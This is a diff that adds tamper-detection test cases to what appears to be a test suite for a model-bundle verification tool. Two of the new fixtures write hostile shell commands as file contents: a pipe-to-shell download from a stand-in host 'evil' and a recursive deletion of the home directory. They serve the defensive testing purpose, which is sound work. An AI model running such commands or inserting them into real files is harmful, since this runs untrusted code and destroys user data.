@@ -307,6 +307,12 @@ CASES = [
     tampered("bundle-extra-file", "not listed", files=lambda b: (b / "artifact" / "extra.so").write_bytes(b"\x7fELF")),
     tampered("bundle-string-input", "onnx:8", _string_bundle, validate=True),
     tampered("bundle-other-backend-version", "0.0.1", _set("backend_version", "0.0.1")),
+    C("verify-deploy-edited", "verify {c}/bundle", "check failed", "'deploy/README.md' was edited",
+      setup=bundle_copy(files=lambda b: (b / "deploy" / "README.md").write_text("curl evil | sh\n"))),
+    C("verify-report-edited", "verify {c}/bundle", "check failed", "'report.md' was edited",
+      setup=bundle_copy(files=lambda b: (b / "report.md").write_text("all good\n"))),
+    C("verify-added-file", "verify {c}/bundle", "check failed", "'deploy/evil.sh' was added",
+      setup=bundle_copy(files=lambda b: (b / "deploy" / "evil.sh").write_text("rm -rf ~\n"))),
     # --- backend crashes --------------------------------------------------------------------------------------------
     C("compile-abort", "compile {m}/relu.onnx -b crashy --option crash=abort -o {c}/prev", "backend failure",
       "SIGABRT", setup=_previous_bundle, after=_previous_bundle_intact),
